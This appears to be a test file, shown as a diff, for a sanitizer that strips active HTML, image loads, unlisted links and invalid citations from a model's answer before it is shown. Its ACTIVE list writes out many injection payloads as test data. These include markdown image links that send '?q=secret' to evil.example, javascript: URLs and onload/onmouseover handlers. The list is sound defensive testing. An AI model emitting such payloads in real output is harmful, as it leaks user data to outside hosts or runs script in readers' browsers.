@@ -1,0 +1,174 @@
+"""What a model wrote is shown without anything that loads, acts or points where no passage is."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from query.answers.writing import Writing, scrubbed
+from tests.support.query.answers_kit import numbered
+
+SOURCE = "https://wiki.example/a"
+PASSAGES = numbered("See https://docs.example/x for more.", "Two.", "Three.", source_url=SOURCE)
+
+
+def shown(text: str) -> str:
+    return scrubbed(text, PASSAGES)[0]
+
+
+@pytest.mark.parametrize(
+    ("written", "seen"),
+    [
+        ("Yes [1].", "Yes [1]."),
+        ("Yes [1, 3][2].", "Yes [1][3][2]."),
+        ("Yes [1-3].", "Yes [1][2][3]."),
+        ("Yes 【2†source】.", "Yes [2]."),
+        ("Yes [9].", "Yes."),
+        ("Yes [1, 9].", "Yes [1]."),
+        ("`args[7]` and ```\nx[8]\n```", "`args[7]` and ```\nx[8]\n```"),
+        ("A list<String> and a < b = c.", "A list<String> and a < b = c."),
+        ("`map<string, int> x = y` and <br/>", "`map<string, int> x = y` and <br/>"),
+        ("<b onclick=x>", "\u2039b onclick=x>"),
+        ("<script>x</script>", "\u2039script>x\u2039/script>"),
+        ("Here is the data: 5.", "Here is the data: 5."),
+        ("xhttp://evil.example/", "x(address removed)"),
+        (f"[the page]({SOURCE})", f"[the page]({SOURCE})"),
+        (f"See {SOURCE}.", f"See {SOURCE}."),
+        ("[the page](https://evil.example/)", "[the page]"),
+        ("[1](https://evil.example/)", "[1]"),
+        ("See https://docs.example/x.", "See `https://docs.example/x`."),
+        ("See https://docs.example/x?q=secret", "See (address removed)"),
+        ("<think>Let me see.</think>\n\nYes [1].", " Yes [1]."),
+        ("<think>Let me", " "),
+        ("Yes <!-- no --> no", "Yes \u2039!-- no --> no"),
+    ],
+)
+def test_what_is_shown(written: str, seen: str) -> None:
+    assert shown(written) == seen
+
+
+def test_what_was_met_is_counted() -> None:
+    _, found = scrubbed("A [2]. B [7][1] ![x](https://e.example/?q=1) <img src=x> [2]", PASSAGES)
+    assert (found.cited, found.bad_citations) == ([2, 1], [7])
+    assert found.removed == 3  # the mark of an image, its address, and the element
+
+
+ACTIVE = [
+    "![x](https://evil.example/?q=secret)",
+    "![x](//evil.example/?q=secret)",
+    "![a [b] c](//evil.example/?q=secret)",
+    "![x](\n//evil.example/?q=secret\n)",
+    '![x](//evil.example/ "title (with) marks")',
+    "![x][r]\n\n[r]: //evil.example/?q=secret",
+    "![r]\n\n  [r]:\n//evil.example/?q=secret",
+    "[x](javascript:alert(1))",
+    "[x](<//evil.example/ a>)",
+    "[x]( //evil.example )",
+    "]<!-- -->(//evil.example/)[",
+    "[a]<!-- -->(//evil.example/)",
+    "[a][9](//evil.example/)",
+    "[1][9](//evil.example/)",
+    "!<think></think>[a](//evil.example/)",
+    "<img src='//evil.example/'>",
+    "<IMG\nsrc=//evil.example/>",
+    "<svg/onload=alert(1)>",
+    "<a href=//evil.example/>x</a>",
+    "<https://evil.example/?q=secret>",
+    "<javascript:alert(1)>",
+    "` ![x](//evil.example/?q=secret)",
+    "```not a fence` ![x](//evil.example/?q=secret)",
+    "<div style='background:url(//evil.example/)'>x</div>",
+    "<div>\n<x_y style='background:url(//evil.example/)'>x</div>",
+    "<b<c style='background:url(//evil.example/)'>",
+    "<p\nonmouseover=alert(1)>",
+    "<p/style=background:url(//evil.example/)>",
+    "<div " + "a " * 200 + "style='background:url(//evil.example/)'>",
+    "<" + "x" * 400 + " style='background:url(//evil.example/)'>",
+    "<img src=//evil.example/",
+    "www.evil.example/?q=secret",
+    "HTTPS://evil.example/?q=secret",
+    "_http://evil.example/?q=secret",
+    "[a](x) [b](//evil.example/(nested(deeper)))",
+    "[[a]](//evil.example/)",
+    r"[a\]b](//evil.example/)",
+    r"\![a](//evil.example/)",
+]
+HARMLESS = frozenset({"class", "start", "title", "alt"})
+
+
+class _Pointing(HTMLParser):
+    """What a browser makes of a page: addresses that are followed, and everything that has an attribute or acts."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: set[str] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if value is not None and name not in HARMLESS:
+                self.found.add(value if (tag, name) == ("a", "href") else f"{tag} {name}={value}")
+        if tag in ("script", "style", "iframe", "object", "svg"):
+            self.found.add(tag)
+
+
+def pointed_to(text: str) -> set[str]:
+    """By a Markdown renderer that lets HTML through, and by none."""
+    page = _Pointing()
+    page.feed(MarkdownIt("commonmark", {"html": True}).render(text))
+    page.feed(f"<p>{text}</p>")
+    page.close()
+    return page.found
+
+
+@pytest.mark.parametrize("written", ACTIVE)
+def test_nothing_is_loaded_and_no_strange_address_is_linked(written: str) -> None:
+    assert pointed_to(shown(f"Text. {written} more.")) == set()
+    assert pointed_to(shown(written)) == set()
+
+
+def test_these_would_have_been_loaded_or_linked() -> None:
+    """So that the test above can fail."""
+    assert sum(bool(pointed_to(written)) for written in ACTIVE) >= 30
+
+
+FRAGMENTS = st.sampled_from(
+    ["[", "]", "(", ")", "!", "<", ">", ":", " ", "=", "/", "<p ", "style=", '"', "'", "\n", "`", "```", "1", "9", "a",
+     "//e.example", "https://", "http", "www.", "<img src=x", "<!--", "-->", "<think>", "</think>", SOURCE, "【", "†",
+     ", ", "-", "\\", "h", "ht", "\t"]
+)  # fmt: skip
+TEXTS = st.lists(FRAGMENTS, max_size=24).map("".join)
+
+
+@given(TEXTS, st.lists(st.integers(1, 5), min_size=1, max_size=8))
+def test_however_it_is_cut_the_same_is_shown(text: str, sizes: list[int]) -> None:
+    writing, out, at, turn = Writing(PASSAGES), "", 0, 0
+    while at < len(text):
+        size = sizes[turn % len(sizes)]
+        out += writing.feed(text[at : at + size])
+        at, turn = at + size, turn + 1
+    assert out + writing.end() == shown(text)
+
+
+@given(TEXTS)
+def test_no_mixture_of_marks_points_anywhere_but_to_a_source(text: str) -> None:
+    assert pointed_to(shown(text)) <= {SOURCE}
+
+
+@given(TEXTS)
+def test_only_passages_that_exist_are_cited(text: str) -> None:
+    out, found = scrubbed(text, PASSAGES)
+    prose = re.sub(r"`[^`]*`?", "", out)
+    assert {int(n) for n in re.findall(r"(?<!\!)\[(\d+)\]", prose)} <= {1, 2, 3}
+    assert set(found.cited) <= {1, 2, 3}
+
+
+def test_words_are_not_held_back() -> None:
+    writing = Writing(PASSAGES)
+    assert [writing.feed(piece) for piece in ("The ", "answer", " is", " five", ".", " [1", "]", " And")] == [
+        "The", " answer", " is", " five", ".", "", "", " [1] And",
+    ]  # fmt: skip
